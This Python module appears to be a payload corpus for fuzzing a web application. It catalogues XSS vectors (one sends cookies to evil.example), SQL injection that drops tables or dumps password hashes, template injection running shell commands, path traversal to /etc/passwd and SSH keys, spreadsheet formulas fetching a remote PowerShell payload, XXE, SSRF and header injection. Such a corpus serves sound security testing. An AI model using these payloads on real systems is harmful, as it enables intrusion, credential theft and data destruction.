"""Hostile payloads, by category: hand-written vectors, plus systematic variants of them
(contexts they break out of, encodings that slip past filters). Every payload is distinct.

A payload's value is text, or bytes for what text cannot hold (invalid UTF-8); `raw` bytes are sent
unencoded in the body or query string, the others percent-encoded as a browser would.
"""

import html
from dataclasses import dataclass
from urllib.parse import quote

# Distinctive results: if any response shows one, a template or expression was evaluated.
EVALUATED = ("1787569", "7777777", "49494949")  # 1337*1337, 7*'7' (Jinja), 7*7 repeated


@dataclass(frozen=True)
class Payload:
    category: str
    value: str | bytes
    raw: bool = False  # bytes sent as they are, not percent-encoded

    @property
    def text(self) -> str:
        """The value as the application would see it, for comparing with what it sends back."""
        if isinstance(self.value, bytes):
            return self.value.decode("utf-8", "replace")
        return self.value

    def __str__(self) -> str:
        shown = repr(self.value)
        shown = shown if len(shown) <= 60 else shown[:57] + "..."
        return f"{self.category}:{shown}{' (raw)' if self.raw else ''}"


XSS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script>document.location='https://evil.example/?c='+document.cookie</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img/src/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>X</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>X</math>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=&#106;avascript:alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style=background:url(javascript:alert(1))>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    '" style="x:expression(alert(1))',
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    "'\"--></style></script><script>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<x contenteditable onblur=alert(1)>lose focus!",
    "<keygen autofocus onfocus=alert(1)>",
    "<plaintext>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    "{{constructor.constructor('alert(1)')()}}",
    "<img src=`x`onerror=alert(1)>",
    "<svg><style>{font-family:'<iframe/onload=alert(1)>'}</style>",
]
# Contexts a reflected value might have to break out of.
XSS_BREAKOUTS = ['">', "'>", "</textarea>", "</script>", "-->", "</title>", "</option>", "</pre>"]
XSS_CORES = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
]

SQL = [
    "'",
    "''",
    '"',
    "' OR '1'='1",
    "' OR 1=1--",
    "' OR 1=1#",
    "' OR 1=1/*",
    '" OR ""="',
    "') OR ('1'='1",
    "1' AND '1'='2",
    "1 AND 1=2",
    "1 OR 1=1",
    "admin'--",
    "admin' #",
    "' UNION SELECT NULL--",
    "' UNION SELECT NULL,NULL,NULL--",
    "' UNION SELECT email, password_hash FROM account--",
    "1 UNION ALL SELECT sqlite_version()",
    "' UNION SELECT version()--",
    "'; DROP TABLE account;--",
    "1; DROP TABLE participant",
    "'; DELETE FROM organisation WHERE '1'='1",
    "'; UPDATE account SET staff_role='admin';--",
    "'; INSERT INTO account (email) VALUES ('x');--",
    "1'; WAITFOR DELAY '0:0:5'--",
    "1' AND pg_sleep(5)--",
    "1' AND (SELECT 1 FROM pg_sleep(5))--",
    "1 AND randomblob(1000000000)",
    "' AND extractvalue(1,concat(0x7e,version()))--",
    "1' ORDER BY 100--",
    "' GROUP BY 1 HAVING 1=1--",
    "%' AND 1=1 AND '%'='",
    "%",
    "_",
    "%%",
    "\\",
    "\\'",
    "\\\\'",
    "'/**/OR/**/1=1",
    "' || (SELECT 'x') || '",
    "'::text",
    "$$ OR 1=1 $$",
    "1e1",
    "0x2727",
    "CHAR(39)",
    "' AND 1=CAST((SELECT current_user) AS int)--",
    "'; COPY account TO '/tmp/x';--",
    "' OR EXISTS(SELECT * FROM sqlite_master)--",
]

TEMPLATE = [
    "{{1337*1337}}",
    "{{ 1337*1337 }}",
    "{{7*'7'}}",
    "{{7*7}}{{7*7}}{{7*7}}{{7*7}}",
    "${1337*1337}",
    "#{1337*1337}",
    "*{1337*1337}",
    "@(1337*1337)",
    "<%= 1337*1337 %>",
    "{1337*1337}",
    "{{config}}",
    "{{config.items()}}",
    "{{ config['SECRET_KEY'] }}",
    "{{request.environ}}",
    "{{self.__init__.__globals__}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{% for x in range(1000000000) %}x{% endfor %}",
    "{% debug %}",
    "{% include '/etc/passwd' %}",
    "{% extends 'base.html' %}",
    "{#",
    "{{",
    "}}",
    "{%",
    "{{ _('x') }}",
    "{{ url_for('pages.home') }}",
    "[[${1337*1337}]]",
    "<#assign ex='freemarker.template.utility.Execute'?new()>${ex('id')}",
    "#set($x=1337*1337)$x",
    "{php}echo 1;{/php}",
    "{{#with 'x'}}{{/with}}",
    "%{1337*1337}",
    "$(id)",
    "`id`",
    "; cat /etc/passwd",
    "| whoami",
    "&& whoami",
]

PATH = [
    "../../../../etc/passwd",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "..%252f..%252fetc%252fpasswd",
    "%2e%2e/%2e%2e/etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "....//....//etc/passwd",
    "..;/..;/etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "..%5c..%5cwindows%5cwin.ini",
    "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "\\\\evil.example\\share\\x",
    "/etc/passwd",
    "/etc/passwd%00.png",
    "file:///etc/passwd",
    "/proc/self/environ",
    "../instance/secret_key",
    "../../instance/challenge.db",
    "..%c0%af..%c0%afetc/passwd",
    "..%u2215..%u2215etc/passwd",
    "／..／..／etc／passwd",
    "~/.ssh/id_rsa",
    "/dev/random",
    ".",
    "..",
    "...",
    "/",
    "//",
    "./././",
    "CON",
    "NUL.png",
    "a/../../b",
]

FORMAT = [
    "%s",
    "%s%s%s%s%s%s%s%s",
    "%n%n%n%n",
    "%x%x%x%x",
    "%d",
    "%(secret_key)s",
    "%(name)s",
    "%(num)d",
    "%.1000000f",
    "%*.*s",
    "{}",
    "{0}",
    "{0.__class__}",
    "{name}",
    "{!r}",
    "%1$s",
    "%",
    "%%%",
]

CRLF = [
    "x\r\nSet-Cookie: injected=1",
    "x\r\nLocation: https://evil.example",
    "x%0d%0aSet-Cookie:%20injected=1",
    "x\nX-Injected: 1",
    "x\rX-Injected: 1",
    "\r\n\r\n<script>alert(1)</script>",
    "x\u010d\u010aSet-Cookie: injected=1",
    "x\u560d\u560aSet-Cookie: injected=1",
    "line one\nline two",
    "\r\n",
    "admin@example.org\r\nBcc: victim@example.org",
    "admin@example.org%0aBcc:victim@example.org",
]

NUMBERS = [
    "-1",
    "0",
    "-0",
    "00",
    "1.5",
    "1,5",
    "12,500",
    "2147483647",
    "2147483648",
    "-2147483649",
    "9223372036854775807",
    "9223372036854775808",
    "-9223372036854775809",
    "99999999999999999999999999999999",
    "1" + "0" * 400,
    "1e308",
    "1e309",
    "-1e309",
    "NaN",
    "nan",
    "Infinity",
    "-Infinity",
    "inf",
    "0x10",
    "0o17",
    "0b101",
    "1_000",
    " 1",
    "1 ",
    "+1",
    "١٢٣",  # Arabic-Indic digits
    "１２３",  # fullwidth digits
    "²",  # a digit to str.isdigit(), not to int()
    "¹²³",
    "⑩",
    "௰",  # Tamil ten: numeric, not a decimal digit
    "Ⅻ",
    "१००",  # Devanagari digits
    "true",
    "null",
    "undefined",
    "[]",
    "{}",
]

FORMULA = [
    "=cmd|' /C calc'!A0",
    "=cmd|'/c powershell IEX(wget evil.example/x)'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
    '=WEBSERVICE("https://evil.example")',
    'DDE("cmd";"/C calc";"!A0")',
    "' =1+1",
    '"=1+1"',
    "=",
    "@",
    "+",
    "-",
]

JSON = [
    '{"a": 1}',
    '"},{"admin":true,"x":"',
    "</script><script>alert(1)</script>",
    '\\"',
    "\\u0000",
    "\\ud800",
    '{"__proto__": {"admin": true}}',
    "[1, 2, 3]",
    "null",
    '\',"x":"',
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    '<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">',
    "*)(uid=*))(|(uid=*",
    "admin)(&)",
    "';alert(1);//",
]

URLS = [
    "https://evil.example",
    "//evil.example",
    "///evil.example",
    "////evil.example/x",
    "/\\evil.example",
    "\\/evil.example",
    "https:evil.example",
    "https:/evil.example",
    "http://evil.example",
    "/%2F%2Fevil.example",
    "/%5Cevil.example",
    "/\t/evil.example",
    "https://example.org@evil.example",
    "https://evil.example%2F@example.org",
    "https://127.0.0.1:22/",
    "https://[::1]/",
    "https://169.254.169.254/latest/meta-data/",
    "https://example.org/<script>",
    "https://exa mple.org",
    "https://" + "a" * 300 + ".example",
    "ftp://evil.example",
    "mailto:victim@example.org",
    "/en/account/logout",
    "/en/",
    "%2Fen%2F",
]

EMAILS = [
    '"<script>alert(1)</script>"@example.org',
    "<script>@example.org",
    "user@example.org<script>alert(1)</script>",
    "user+tag@example.org",
    "user@[127.0.0.1]",
    "user@localhost",
    "user@example",
    "@example.org",
    "user@",
    "user@@example.org",
    "a" * 300 + "@example.org",
    "user@" + "a" * 64 + ".example",
    "user@xn--80ak6aa92e.com",
    "usér@exämple.org",
    "user@еxample.org",  # Cyrillic е
    "USER@EXAMPLE.ORG",
    " user@example.org ",
    "user@example.org,other@example.org",
    "user@example.org;other@example.org",
    "user@example.org\x00",
    "user@example..org",
    ".user@example.org",
    "user.@example.org",
    "user@-example.org",
]

CONTROL = [
    "\x00",
    "a\x00b",
    "\x00<script>alert(1)</script>",
    "admin\x00",
    "%00",
    "\x01\x02\x03\x04\x05\x06\x07\x08",
    "\x0b\x0c\x0e\x0f",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x7f",
    "\x80\x81\x9f",
    "\u0085",
    "\u2028",
    "\u2029",
    "\ufeff",
    "\ufffe",
    "\uffff",
    "\U0010ffff",
    "\ue000",  # private use
    "\U000e0041",  # tag character
    "\t\t\t",
    " ",
    "   ",
    "\u3000",
    "",
]

BIDI = [
    "\u202e",
    "Asha\u202egnp.exe",
    "\u202egnp.exe",
    "admin\u202d",
    "\u202aleft\u202c",
    "\u202bright\u202c",
    "\u2066isolate\u2069",
    "\u2067rtl\u2069",
    "\u2068first\u2069",
    "\u200e",
    "\u200f",
    "\u061c",
    "user\u202e\u2066",
    "Quad \u202eegnellahC\u202c",
    "‮admin",
]

INVISIBLE = [
    "\u200b",
    "ad\u200bmin",
    "\u200c\u200d",
    "ad\u200dmin",
    "\u2060",
    "\u2061\u2062\u2063\u2064",
    "\u00ad",
    "ad\u00admin",
    "\u034f",
    "\u180e",
    "\u3164",  # Hangul filler: a letter that shows nothing
    "\u115f\u1160",
    "\uffa0",
    "\u2800",  # braille blank
    "admin\u200b\u200b\u200b",
]

HOMOGLYPHS = [
    "Аdmin",  # Cyrillic А
    "аdmin",
    "Αdmin",  # Greek Α
    "ɑdmin",  # Latin alpha
    "Ꭺdmin",  # Cherokee
    "ＡＤＭＩＮ",  # fullwidth
    "𝐀𝐝𝐦𝐢𝐧",  # mathematical bold
    "𝔄𝔡𝔪𝔦𝔫",
    "𝓐𝓭𝓶𝓲𝓷",
    "ⓐⓓⓜⓘⓝ",
    "ᴀᴅᴍɪɴ",
    "pаypal",  # Cyrillic а
    "аррӏе",  # all Cyrillic
    "Quad Cyber Chаllenge",
    "Quad Cyber Challenge",
    "Ministry of Exаmples",
    "ﬁnance",  # ligature
    "Å",  # A + combining ring
    "Å",  # Ångström sign
    "K",  # Kelvin sign
    "Z̷̢̛̖̗̘̙̜̝̞̟̠̀́̂̃̄̅̆̇̈̉̊̋̌̍̎̏̐̑̒̓̔̽̾̿̀́͂̓̈́͆͊͋͌̕̚ͅa̸l̵g̴o̶",
    "a" + "\u0301" * 50,
    "ﷺ",  # one character, eighteen after NFKC
    "ǅ",
    "ß",
    "İstanbul",
    "staff",
    "ѕtaff",  # Cyrillic ѕ
    "Аsha",
    "Asha🙂",
    "🏳️‍🌈",
    "👩‍👩‍👧‍👦" * 5,
]

TEXTS = [
    "Ministry of Examples",
    "Asha",
    "आशा",
    "アシャ",
    "مرحبا",
    "שלום",
    "O'Brien",
    'The "Quoted" Co.',
    "Smith & Sons",
    "a < b > c",
    "50% off",
    "C:\\temp",
    "emoji 🎉🎉🎉",
    "Ω≈ç√∫˜µ≤≥÷",
    "𝕋𝕖𝕤𝕥",
    "�",
]

INVALID_UTF8 = [
    b"\xff",
    b"\xfe\xff",
    b"\xc0\xaf",  # overlong "/"
    b"\xc0\x80",  # overlong NUL
    b"\xe0\x80\xaf",
    b"\xed\xa0\x80",  # surrogate
    b"\xed\xbf\xbf",
    b"\xf4\x90\x80\x80",  # beyond U+10FFFF
    b"\xf8\x88\x80\x80\x80",
    b"\xe2\x82",  # truncated
    b"\x80",
    b"abc\xffdef",
    b"<script>\xff</script>",
    b"\xff<img src=x onerror=alert(1)>",
]

# Oversized: a megabyte is the request limit (MAX_CONTENT_LENGTH); the rest are far over any field.
OVERSIZED_SIZES = (10 * 1024, 100 * 1024, 1024 * 1024)
OVERSIZED_UNITS = ("A", "<script>", "é", "🙂", "9", "\x00")


def xss_variants() -> list[str]:
    variants = []
    for breakout in XSS_BREAKOUTS:
        for core in XSS_CORES:
            variants.append(breakout + core)
    for core in XSS_CORES:
        variants.append(quote(core, safe=""))  # percent-encoded
        variants.append(quote(quote(core, safe=""), safe=""))  # twice
        variants.append(html.escape(core))  # as entities
        variants.append("".join(f"&#{ord(c)};" for c in core))  # numeric entities
        variants.append("".join(f"\\x{ord(c):02x}" for c in core))  # JS escapes
        variants.append(core.upper())
        variants.append(core.replace(" ", "\t"))
        variants.append(core.replace(" ", "/"))
        variants.append(core.replace("<", "＜").replace(">", "＞"))  # fullwidth brackets
        variants.append(core.replace("<", "\u003c\u200b"))
        variants.append(f"Asha {core}")
        variants.append(f"{core} Asha")
    return variants


def sql_variants() -> list[str]:
    variants = []
    for base in ("' OR '1'='1", "'; DROP TABLE account;--", "' UNION SELECT NULL--"):
        variants.append(quote(base, safe=""))
        variants.append(base.replace(" ", "/**/"))
        variants.append(base.replace("'", "\u2019"))  # typographic quote
        variants.append(base.replace("'", "\uff07"))  # fullwidth quote
        variants.append(f"Asha{base}")
    return variants


def oversized() -> list[str]:
    return [
        (unit * (size // len(unit.encode()) + 1))[: size // len(unit.encode())]
        for size in OVERSIZED_SIZES
        for unit in OVERSIZED_UNITS
    ]


def control_variants() -> list[str]:
    variants = [chr(code) for code in (*range(1, 32), 127) if chr(code) not in "\t\n\r"]
    variants += [f"Asha{chr(code)}" for code in (0, 7, 8, 27)]
    return variants


def bidi_variants() -> list[str]:
    controls = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
    return [f"Asha{control}Smith" for control in controls] + [
        f"{control}Ministry of Examples" for control in controls
    ]


def build() -> list[Payload]:
    groups = {
        "xss": XSS + xss_variants(),
        "sql": SQL + sql_variants(),
        "template": TEMPLATE,
        "path": PATH,
        "format": FORMAT,
        "crlf": CRLF,
        "number": NUMBERS,
        "formula": FORMULA,
        "json": JSON,
        "url": URLS,
        "email": EMAILS,
        "control": CONTROL + control_variants(),
        "bidi": BIDI + bidi_variants(),
        "invisible": INVISIBLE,
        "homoglyph": HOMOGLYPHS,
        "text": TEXTS,
        "oversized": oversized(),
    }
    payloads, seen = [], set()
    for category, values in groups.items():
        for value in values:
            if (value, False) not in seen:
                seen.add((value, False))
                payloads.append(Payload(category, value))
    for value in INVALID_UTF8:
        for raw in (False, True):
            payloads.append(Payload("invalid-utf8", value, raw=raw))
    return payloads


PAYLOADS = build()
CATEGORIES = tuple(dict.fromkeys(payload.category for payload in PAYLOADS))
